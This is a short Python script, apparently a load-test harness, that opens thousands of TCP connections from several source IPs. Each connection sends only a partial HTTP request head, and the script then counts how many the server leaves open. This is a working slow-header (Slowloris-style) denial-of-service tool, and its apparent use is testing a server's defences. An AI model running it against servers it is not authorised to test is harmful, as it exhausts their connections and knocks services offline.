"""A slow-header attacker (one process holds at most its open-file limit, so a test spreads
25,000 sockets over several): argv = HOST PORT COUNT DEADLINE_S SRC_IP [SRC_IP ...].
Opens COUNT connections to HOST:PORT, round-robin from the SRC_IPs, each sending a partial
request head and nothing more; prints `opened N in T s`; then waits until DEADLINE_S after
the last one opened and prints `open M` (connections the server has not closed)."""

import socket
import sys
import time

host, port, count, deadline = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
sources = sys.argv[5:]
IP_BIND_ADDRESS_NO_PORT = 24  # Linux
HEAD = b"GET /health HTTP/1.1\r\nhost: x\r\nx-slow: "

socks = []
t0 = time.monotonic()
for i in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # The port is picked at connect (bind(port 0) would scan for a port free for every
    # destination: slow with thousands taken).
    s.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
    s.bind((sources[i % len(sources)], 0))
    s.settimeout(10)
    s.connect((host, port))
    try:
        s.send(HEAD)
    except OSError:
        pass  # closed at once to make room: still an attacker's socket held here
    socks.append(s)
last = time.monotonic()
print(f"opened {count} in {last - t0:.2f} s", flush=True)
time.sleep(max(0.0, last + deadline - time.monotonic()))
still_open = 0
for s in socks:
    s.setblocking(False)
    try:
        if s.recv(64) != b"":
            still_open += 1  # an answer: not closed (never expected)
    except BlockingIOError:
        still_open += 1
    except OSError:
        pass
print(f"open {still_open}", flush=True)
